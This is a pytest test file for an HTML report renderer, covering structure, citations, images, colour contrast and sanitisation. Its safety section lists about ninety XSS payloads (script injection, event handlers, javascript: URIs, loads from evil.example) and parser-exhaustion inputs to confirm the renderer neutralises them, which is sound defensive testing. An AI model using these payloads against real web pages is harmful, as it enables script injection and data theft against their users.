"""The HTML format: its content, read with a separate parser, and its safety for any content."""

from __future__ import annotations

import base64
import json
import re
import shutil
import subprocess
from collections.abc import Iterator
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from time import thread_time
from typing import Any

import pytest

from living_reports.model.report import Outline
from living_reports.render.prose import Prose, local_images
from support.pages import html
from support.small_outline import uid

TODAY = date(2026, 11, 23)
HEAD = "5e3c0a4b" * 8
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
STYLE = Path(__file__).parents[2] / "src" / "living_reports" / "render" / "page.css"
VOID = {"meta", "br", "hr", "img", "wbr"}


def insight(number: int, importance: int, **fields: Any) -> dict[str, Any]:
    return {"insight_id": uid(number), "importance": importance, "summary": f"Finding {number}."} | fields


def outline(*sections: dict[str, Any], insights: list[dict[str, Any]] | None = None, **head: Any) -> Outline:
    data = {
        "report_id": uid(0xFFFF),
        "title": "Platform <health>",
        "outline_version": 4,
        "created_at": "2026-01-01T00:00:00+00:00",
        "updated_at": "2026-11-20T08:12:44+00:00",
        "metadata": {"tags": ["a&b", "q4"]},
        "sections": [{"section_id": uid(0x100 + n), "title": "Part"} | s for n, s in enumerate(sections)],
        "insights": insights or [],
    }
    return Outline.model_validate(data | head)


class ParsedPage(HTMLParser):
    """The elements of a page in order, each with its ancestors and its text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[dict[str, Any]] = []
        self.unbalanced: list[str] = []
        self._open: list[dict[str, Any]] = []
        self.feed(text)
        self.close()
        self.unbalanced += [element["tag"] for element in self._open]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        around = [element["tag"] for element in self._open]
        element = {"tag": tag, "text": "", "around": around} | {k: v or "" for k, v in attrs}
        self.elements.append(element)
        if tag not in VOID:
            self._open.append(element)

    def handle_endtag(self, tag: str) -> None:
        if not self._open or self._open[-1]["tag"] != tag:
            self.unbalanced.append(f"/{tag}")
            return
        self._open.pop()

    def handle_data(self, data: str) -> None:
        for element in self._open:
            element["text"] += data

    def all(self, tag: str = "", **attributes: str) -> list[dict[str, Any]]:
        wanted = {name.rstrip("_"): value for name, value in attributes.items()} | (
            {"tag": tag} if tag else {}
        )
        return [e for e in self.elements if all(e.get(name) == value for name, value in wanted.items())]

    def texts(self, tag: str, **attributes: str) -> list[str]:
        return [" ".join(element["text"].split()) for element in self.all(tag, **attributes)]


def render(report: Outline, **options: Any) -> str:
    return html(report, today=TODAY, head_sha256=HEAD, **options)


def page(report: Outline, **options: Any) -> ParsedPage:
    return ParsedPage(render(report, **options))


CITED = {"source": "url", "url": "https://example.org/ci?a=1&b=2", "title": "CI", "accessed_at": "2026-11-20"}
QUERY = {"source": "query", "provider": "snowflake", "execution_id": "01b2"}
INSIGHTS = [
    insight(1, 5, citations=[QUERY]),
    insight(2, 9, citations=[CITED, QUERY], metadata={"review_by": "2026-11-01"}),
    insight(3, 7, status="killed"),
    insight(4, 0, metadata={"as_of": "2026-10-01"}),
]
CONTENT = """# One

Some *words* and `code` at https://example.org/x.

### Three

| a | b |
|---|--:|
| 1 | 2<br>3 |

- [x] done
- [ ] open
"""
REPORT = outline(
    {
        "title": "Builds",
        "content": CONTENT,
        "notes": "Ask **Ada**.",
        "insight_ids": [uid(n) for n in (1, 2, 3)],
    },
    {"title": "Builds", "content": "# One", "content_format": "markdown"},
    {"title": "Plain", "content": "a  <b>\n c", "content_format": "plain"},
    {"title": "Html", "content": "<h2>T</h2><p>x<table><tr><td>1<td>2", "content_format": "html"},
    insights=INSIGHTS,
)


# --- The page ----------------------------------------------------------------------------


def test_the_page_is_complete_and_has_landmarks() -> None:
    found = page(REPORT)
    assert not found.unbalanced
    assert found.all("html")[0]["lang"] == "en"
    assert found.texts("title") == ["Platform <health>"]
    assert [len(found.all(tag)) for tag in ("h1", "header", "nav", "main", "footer")] == [1] * 5
    skip = found.all("a", class_="skip")[0]
    assert found.all(id=skip["href"][1:])[0]["tag"] == "main"
    policy = found.all("meta", **{"http-equiv": "Content-Security-Policy"})[0]["content"]
    assert policy.startswith("default-src 'none'; style-src 'unsafe-inline'; img-src data:;")


def test_ids_are_unique_and_every_anchor_has_a_target() -> None:
    found = page(REPORT, status="all")
    ids = [element["id"] for element in found.elements if "id" in element]
    assert len(ids) == len(set(ids))
    inner = {link["href"][1:] for link in found.all("a") if link.get("href", "").startswith("#")}
    assert inner <= set(ids)
    labels = {e[name] for e in found.elements for name in ("aria-labelledby",) if name in e}
    assert labels <= set(ids)


def test_the_contents_name_every_part_in_order() -> None:
    found = page(REPORT)
    links = [link for link in found.all("a") if "nav" in link["around"]]
    assert [link["href"] for link in links] == [
        "#builds", "#builds-1", "#plain", "#html", "#other-insights", "#page.sources",
    ]  # fmt: skip
    assert " ".join(links[0]["text"].split()) == "1 Builds"
    assert found.texts("span", class_="stale")[1] == "1 stale"


def test_titles_that_begin_with_numbers_get_no_other_numbers() -> None:
    assert not page(outline({"title": "1. One"}, {"title": "Two"})).all("span", class_="number")


def test_headings_of_the_content_follow_those_of_the_section() -> None:
    found = page(REPORT)
    headings = [
        (e["tag"], e["text"], e.get("id")) for e in found.elements if re.fullmatch("h[3-6]", e["tag"])
    ]
    assert headings == [
        ("h3", "One", "one"),
        ("h5", "Three", "three"),
        ("h3", "One", "one-1"),
        ("h3", "T", "t"),
    ]


def test_insights_are_ranked_badged_and_marked() -> None:
    found = page(REPORT)
    badges = [(e["text"], e["class"], e["aria-label"]) for e in found.all("span", role="img")]
    assert badges == [
        ("9", "badge top", "Importance 9 of 10"),
        ("5", "badge medium", "Importance 5 of 10"),
        ("0", "badge low", "Importance 0 of 10"),
    ]
    rows = {
        e["id"]: " ".join(e["text"].split())
        for e in found.all("li")
        if e.get("id", "").startswith("insight.")
    }
    assert rows[f"insight.{uid(2)[:8]}"] == "9Finding 2.12Stale due for review since 2026-11-01"
    assert rows[f"insight.{uid(4)[:8]}"] == "0Finding 4.as of 2026-10-01"


def test_insights_that_are_not_active_are_shown_only_on_request() -> None:
    assert "Finding 3" not in render(REPORT)
    killed = page(REPORT, status="all").all("li", class_="killed")
    assert [" ".join(e["text"].split()) for e in killed] == ["7Finding 3.killed"]
    assert page(REPORT, status="killed").texts("span", class_="status") == ["killed"]


def test_a_report_with_many_insights_begins_with_the_most_important() -> None:
    many = [insight(n, n % 11, citations=[CITED]) for n in range(1, 13)]
    key = page(outline({"insight_ids": [uid(n) for n in range(1, 13)]}, insights=many)).all(
        "section", class_="key"
    )
    assert re.findall(r"Finding (\d+)", key[0]["text"]) == ["10", "9", "8", "7", "6"]
    assert not page(REPORT).all("section", class_="key")


def test_citations_are_numbered_listed_and_linked_both_ways() -> None:
    found = page(REPORT)
    marks = [(e["id"], e["href"], e["text"]) for e in found.all("a", role="doc-noteref")]
    assert marks == [
        ("cite.1.1", "#source.1", "1"),
        ("cite.2.1", "#source.2", "2"),
        ("cite.2.2", "#source.2", "2"),
    ]
    assert [e["href"] for e in found.all("a", role="doc-backlink")] == ["#cite.1.1", "#cite.2.1", "#cite.2.2"]
    first, second = (e["text"] for e in found.all("li") if e.get("id", "").startswith("source."))
    assert " ".join(first.split()).startswith("1CI https://example.org/ci?a=1&b=2 url · accessed 2026-11-20")
    assert " ".join(second.split()).startswith("2execution 01b2 query · snowflake")
    assert len(found.all("a", href=CITED["url"], rel="noopener noreferrer")) == 2


def test_sources_of_a_section_are_numbered_with_those_of_its_insights() -> None:
    cited = {"content": "Text.", "insight_ids": [uid(1)], "metadata": {"citations": [CITED, QUERY]}}
    found = page(outline(cited, insights=INSIGHTS[:1]))
    assert not found.unbalanced
    [line] = [text for text in found.texts("p", class_="facts") if text.startswith("Sources")]
    assert line == "Sources 12"
    marks = [e["id"] for e in found.all("a", role="doc-noteref")]
    assert marks == ["cite.1.1", "cite.2.1", "cite.2.2"]
    assert [e["href"] for e in found.all("a", role="doc-backlink")] == [f"#{mark}" for mark in marks]


def test_the_footer_identifies_the_version() -> None:
    assert page(REPORT).texts("dd") == [
        uid(0xFFFF),
        "4",
        HEAD,
        "2026-11-20 08:12 UTC",
        "judged on 2026-11-23",
    ]
    assert "Log head" not in html(REPORT, today=TODAY)


def test_a_table_scrolls_in_a_box_with_keyboard_focus() -> None:
    boxes = page(REPORT).all("div", class_="table")
    assert [(box["tabindex"], box["role"], box["aria-label"]) for box in boxes] == [
        ("0", "group", "Table")
    ] * 2
    cells = [
        (e["tag"], e.get("align"), e.get("scope")) for e in page(REPORT).elements if e["tag"] in ("th", "td")
    ]
    assert cells[:4] == [
        ("th", None, "col"),
        ("th", "right", "col"),
        ("td", None, None),
        ("td", "right", None),
    ]


def test_plain_text_keeps_its_lines_and_is_not_parsed() -> None:
    assert page(REPORT).all("div", class_="plain")[0]["text"] == "a  <b>\n c"


def test_task_lists_addresses_and_other_common_markup() -> None:
    shown = Prose().block(CONTENT, "markdown", top=3)
    assert (
        '<a class="bare" href="https://example.org/x" rel="noopener noreferrer">https://example.org/x</a>.'
        in shown
    )
    assert '<li class="task">☑ done</li>\n<li class="task">☐ open</li>' in shown
    assert Prose().line("one\ntwo **three**") == "one<br>\ntwo <strong>three</strong>"
    assert Prose().line("# no <h2>heading</h2>") == "# no heading"
    assert "<p>a<br>b</p>" in Prose().block("a<br/>b", "markdown", top=3)


def test_an_empty_report_has_a_title_and_a_footer() -> None:
    found = page(outline(metadata={}))
    assert not found.unbalanced
    assert not found.all("nav")
    assert not found.all("h2")


def test_the_same_report_gives_the_same_page() -> None:
    again = Outline.model_validate_json(REPORT.model_dump_json(by_alias=True))
    assert render(REPORT) == render(again)


# --- References and headings --------------------------------------------------------------

USES = "Read [the docs][Docs], [docs][] and [docs], not [other] or [^1]."
DEFINITIONS = """Closing words.

[docs]: https://example.org/docs "The docs"
[img]: img/chart.png
"""


def links(found: ParsedPage) -> list[tuple[str, str]]:
    """The text and the address of each link of the content."""
    within = ("nav", "footer")
    return [
        (link["text"], link["href"])
        for link in found.all("a")
        if "href" in link and not link["href"].startswith("#") and not set(within) & set(link["around"])
    ]


def test_links_are_resolved_over_the_whole_report() -> None:
    report = outline(
        {"content": USES, "notes": "See [docs].", "insight_ids": [uid(1)]},
        {"content": "> - [docs]"},
        {"content": DEFINITIONS},
        insights=[insight(1, 5, summary="As [docs] say.")],
    )
    address = "https://example.org/docs"
    found = page(report)
    assert links(found) == [("the docs", address)] + [("docs", address)] * 5
    assert "not [other] or [^1]." in found.texts("p")[1]
    assert {link["title"] for link in found.all("a", href=address)} == {"The docs"}


def test_the_definition_in_the_same_text_comes_first_then_the_first_of_the_report() -> None:
    found = page(
        outline(
            {"content": "[a] [b]"},
            {"content": "[a] [b]\n\n[a]: https://two.example\n[a]: https://three.example"},
            {"content": "[a] [b]", "notes": "[b]: https://notes.example"},
            {"content": "[a] [b]\n\n[b]: https://four.example\n[a]: https://four.example"},
        )
    )
    two, four, notes = "https://two.example", "https://four.example", "https://notes.example"
    assert [address for _, address in links(found)] == [two, notes, two, notes, two, notes, four, four]


@pytest.mark.parametrize(
    "section",
    [
        {"content": "[a]: https://a.example", "content_format": "plain"},
        {"content": "<p>[a]: https://a.example</p>", "content_format": "html"},
        {"content": "```\n[a]: https://a.example\n```"},
        {"content": "    [a]: https://a.example"},
        {"content": "Text\n[a]: https://a.example"},
        {"content": "[a]: javascript:alert(1)"},
    ],
)
def test_what_defines_no_link_resolves_none(section: dict[str, Any]) -> None:
    assert ("a", "https://a.example") not in links(page(outline({"content": "See [a]."}, section)))


def test_an_image_that_is_defined_in_another_section_is_shown() -> None:
    report = outline({"content": "![the chart][img]"}, {"content": DEFINITIONS})
    assert [e["alt"] for e in page(report, images={"img/chart.png": PNG}.get).all("img")] == ["the chart"]
    assert local_images(report) == ["img/chart.png"]


@pytest.mark.parametrize("definition", ["[^1]: Word", "[^1]: https://example.org/x", "[^1]: Some words."])
def test_the_definition_of_a_footnote_is_not_lost(definition: str) -> None:
    found = page(outline({"content": "Text[^1]."}, {"content": f"End.\n\n{definition}"}))
    assert found.texts("p")[1:4] == ["Text[^1].", "End.", definition]


@pytest.mark.parametrize(
    ("title", "shown", "plain", "anchor"),
    [
        ("`f()` is *new*", "<code>f()</code> is <em>new</em>", "f() is new", "f-is-new"),
        (
            "The `Vec<T>` &amp; **all**",
            "The <code>Vec&lt;T&gt;</code> &amp; <strong>all</strong>",
            "The Vec<T> & all",
            "the-vect--all",
        ),
        (
            "Vec<T> and snake_case * 2",
            "Vec&lt;T&gt; and snake_case * 2",
            "Vec<T> and snake_case * 2",
            "vect-and-snake_case--2",
        ),
        ("![a *b*](c.png) d", "a b d", "a b d", "a-b-d"),
        ("~~No~~ \\*yes\\*", "<s>No</s> *yes*", "No *yes*", "no-yes"),
        ("[](x)", "[](x)", "[](x)", "x"),
        ("<script>x</script>", "&lt;script&gt;x&lt;/script&gt;", "<script>x</script>", "scriptxscript"),
    ],
)
def test_headings_show_inline_markup_and_their_plain_text_elsewhere(
    title: str, shown: str, plain: str, anchor: str
) -> None:
    report = outline({"title": title}, {"title": "2"}, title=title)
    text = render(report)
    assert f'<h1 dir="auto">{shown}</h1>' in text
    assert f'<h2 dir="auto">{shown}</h2>' in text
    found = ParsedPage(text)
    assert found.texts("title") == [plain]
    [entry] = found.all("a", href=f"#{anchor}")
    assert (entry["text"], "nav" in entry["around"]) == (plain, True)
    assert [e["tag"] for e in found.all(id=anchor)] == ["section"]


def test_a_link_in_a_heading_is_resolved() -> None:
    found = page(outline({"title": "About [docs] and [x](https://x.example)"}, {"content": DEFINITIONS}))
    assert links(found) == [("docs", "https://example.org/docs"), ("x", "https://x.example")]
    assert found.texts("span", dir="auto") == ["About docs and x", "Part"]


# --- Images ------------------------------------------------------------------------------


def test_a_local_image_is_embedded_and_others_become_text() -> None:
    content = (
        '![the chart](img/my%20chart.png "T") ![far](https://example.org/a.png) ![gone](no.png) '
        '<img src="x.svg" alt="a drawing">'
    )
    files = {"img/my chart.png": PNG, "x.svg": b"<svg onload=alert(1)>"}
    found = page(outline({"content": content}), images=files.get)
    shown = [(e["alt"], e["title"], e["src"]) for e in found.all("img")]
    assert shown == [("the chart", "T", f"data:image/png;base64,{base64.b64encode(PNG).decode()}")]
    assert [link["text"] for link in found.all("a", href="https://example.org/a.png")] == ["far"]
    assert "far [image not shown: gone] [image not shown: a drawing]" in found.texts("p")


def test_without_a_reader_no_image_is_read() -> None:
    assert not page(outline({"content": "![a](b.png)"})).all("img")


def test_an_embedded_image_is_kept_if_it_is_an_image() -> None:
    def uri(kind: str, data: bytes) -> str:
        return f"data:{kind};base64,{base64.b64encode(data).decode()}"

    content = (
        f"![a]({uri('image/png', PNG)}) ![b]({uri('image/png', b'<html>')}) ![c]({uri('text/html', PNG)})"
    )
    sources = [e["src"] for e in page(outline({"content": content})).all("img")]
    assert sources == [uri("image/png", PNG)] * 2  # what it is, not what it is called


def test_the_images_of_a_page_have_a_size_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("living_reports.render.prose.MAX_IMAGES_BYTES", 2 * len(PNG))
    found = page(outline({"content": "![a](a)![b](b)![c](c)"}), images=lambda path: PNG)
    assert [e["alt"] for e in found.all("img")] == ["a", "b"]


# --- Safety ------------------------------------------------------------------------------

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<<script>alert(1)//<</script>",
    "</title></style></script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img src="https://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif">',
    '<img srcset="https://evil.example/a 2x">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img """><script>alert(1)</script>">',
    "<img/src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<applet code=x></applet>",
    "<video src=https://evil.example/v onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/a autoplay></audio>",
    "<body onload=alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example)}</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<p style='position:fixed;inset:0' onmouseover=alert(1)>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;vascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href=x onclick=alert(1) ping=https://evil.example target=_blank>x</a>",
    "<a href='https://ok.example' style='x' onfocus=alert(1) autofocus>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<java\\script:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](y)',
    '![x](y "a" onerror="alert(1))',
    '[x](https://ok.example "\\" onmouseover=alert(1) \\"")',
    "[x]: javascript:alert(1)\n\n[x]",
    "```<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action='https://evil.example'><button formaction=javascript:alert(1)>x</button></form>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<p id=page.report class=skip role=img aria-label=x tabindex=1>x</p>",
    "</section></main></body></html><script>alert(1)</script>",
    "</div></div></div><footer>x</footer>",
    "</ol></li><h1>x</h1>",
    "<table><td><a href=javascript:alert(1)><table>",
    "<h1><script>alert(1)</script>T</h1>",
    'https://ok.example/"onmouseover=alert(1)',
    "https://ok.example/'><script>alert(1)</script>",
    "$style $title ${main} <script>",
    "\u2028<script>\u2029alert(1)</script>\x00<scr\x00ipt>alert(1)</script>",
]

OURS = {
    "a", "article", "body", "cite", "code", "dd", "div", "dl", "dt", "footer", "h1", "h2", "head", "header",
    "html", "li", "main", "meta", "nav", "ol", "p", "section", "span", "style", "sup", "time", "title", "ul",
}  # fmt: skip
CONTENTS = {
    "abbr", "b", "bdi", "blockquote", "br", "caption", "del", "details", "dfn", "em", "figcaption",
    "figure", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd", "mark", "pre", "q", "s", "samp",
    "small", "strong", "sub", "summary", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "u",
    "var", "wbr",
}  # fmt: skip
ATTRIBUTES = {
    "align", "alt", "aria-label", "aria-labelledby", "charset", "class", "colspan", "content", "datetime",
    "dir", "href", "http-equiv", "id", "lang", "name", "open", "rel", "reversed", "role", "rowspan", "scope",
    "src", "start", "tabindex", "title", "type", "value",
}  # fmt: skip


def harm(text: str) -> Iterator[str]:
    """Return everything on a page that could run, load or link to something forbidden."""
    found = ParsedPage(text)
    yield from (f"unbalanced: {tag}" for tag in found.unbalanced)
    for element in found.elements:
        attributes = {k: v for k, v in element.items() if k not in ("tag", "text", "around")}
        if element["tag"] not in OURS | CONTENTS:
            yield f"element {element['tag']}"
        yield from (f"attribute {name}" for name in attributes if name not in ATTRIBUTES)
        if not re.match(r"(https?://|mailto:|#)\S*$", attributes.get("href", "#")):
            yield f"href {attributes['href']}"
        if not re.match(
            r"data:image/(png|jpeg|gif|webp);base64,", attributes.get("src", "data:image/png;base64,")
        ):
            yield f"src {attributes['src']}"
    yield from (
        f"{tag} is there twice" for tag in ("main", "footer", "h1", "style") if len(found.all(tag)) != 1
    )
    styles = found.all("style")[0]["text"]
    yield from re.findall(r"url\([^)]*\)|@import|https?:", styles)


def everywhere(text: str) -> Outline:
    """Return a report with this text in every field that takes text."""
    fields = ("url", "title", "description", "provider", "page", "accessed_at", "path", "execution_id")
    citation = {"source": "url"} | dict.fromkeys(fields, text)
    web = {"source": "url", "url": f"https://ok.example/{text}"}
    insights = [insight(n, n, summary=text, citations=[citation, web]) for n in range(1, 7)]
    insights[0]["metadata"] = {"as_of": text, "review_by": text}
    formats = ("markdown", "html", "plain")
    sections: list[dict[str, Any]] = [
        {"title": text, "content": text, "notes": text, "content_format": f} for f in formats
    ]
    sections[0]["insight_ids"] = [uid(1)]
    return outline(*sections, insights=insights, title=text, metadata={"tags": [text]}, updated_at=text)


def test_the_detector_finds_harmful_markup() -> None:
    bad = render(outline()).replace(
        "</main>", "<p onclick=x><a href='javascript:1'></a><svg></svg></p></main>"
    )
    assert list(harm(bad)) == ["attribute onclick", "href javascript:1", "element svg"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_reaches_the_page(attack: str) -> None:
    assert list(harm(render(everywhere(attack), images=lambda path: None, status="all"))) == []


def test_no_combination_of_attacks_reaches_the_page() -> None:
    assert list(harm(render(everywhere("\n\n".join(ATTACKS))))) == []


BOMBS = {
    "nesting": "<div>" * 200_000,
    "formatting": "<p>" + "".join(f"<b title={n}>" for n in range(20_000)) + "</p><p>x" * 20_000,
    "comments": "<!--" * 250_000,
    "tags": "<a " * 330_000,
    "quotes": "<a title='" * 50_000 + '<a title="' * 50_000,
    "angles": "<" * 1_000_000,
    "headings": "<h1>" * 200_000,
    "definitions": "".join(f"[{n}]: x\n" for n in range(90_000)),
    "references": "[a]: x\n\n" + "[a] " * 100_000,
    "long references": f"[a]: {'x' * 500_000}\n\n" + "[a] " * 120_000,
    "open titles": "[a]: x\n'y\n" * 30_000,
    "open labels": "[a\n" * 100_000,
}


@pytest.mark.parametrize("content_format", ["markdown", "html"])
@pytest.mark.parametrize("name", BOMBS)
def test_a_section_of_the_maximum_size_renders_quickly(name: str, content_format: str) -> None:
    begun = thread_time()
    text = render(outline({"content": BOMBS[name], "content_format": content_format}))
    assert thread_time() - begun < 30
    assert len(text) < 10_000_000


# --- Appearance --------------------------------------------------------------------------


def luminance(colour: str) -> float:
    parts = [int(colour[n : n + 2], 16) / 255 for n in (1, 3, 5)]
    red, green, blue = (c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in parts)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def contrast(one: str, other: str) -> float:
    dark, light = sorted((luminance(one), luminance(other)))
    return (light + 0.05) / (dark + 0.05)


PAIRS = [
    *((text, ground) for text in ("ink", "muted", "link") for ground in ("paper", "wash")),
    *(("on-badge", level) for level in ("top", "high", "medium")),
    ("on-low", "low"),
    ("alert", "alert-wash"),
    ("ink", "alert-wash"),
]


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("pair", PAIRS, ids="-on-".join)
def test_every_text_has_enough_contrast(theme: str, pair: tuple[str, str]) -> None:
    blocks = re.findall(r":root \{(.*?)\}", STYLE.read_text(encoding="utf-8"), re.DOTALL)
    colours = dict(re.findall(r"--([\w-]+): (#\w{6});", blocks[0 if theme == "light" else 1]))
    assert contrast(colours[pair[0]], colours[pair[1]]) >= 4.5


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium on PATH")
def test_a_browser_loads_it_without_requests_or_warnings(tmp_path: Path) -> None:
    file = tmp_path / "report.html"
    file.write_text(render(everywhere("\n\n".join(ATTACKS))), encoding="utf-8")
    log = tmp_path / "net.json"
    command = [
        str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--no-first-run",
        f"--user-data-dir={tmp_path / 'user'}", "--enable-logging=stderr", f"--log-net-log={log}",
        "--dump-dom", file.as_uri(),
    ]  # fmt: skip
    done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=True)
    assert "page.sources" in done.stdout
    assert [line for line in done.stderr.splitlines() if "CONSOLE" in line] == []
    assert not re.search(
        r"(evil|ok)\.example", json.dumps(json.loads(log.read_text(encoding="utf-8"))["events"])
    )
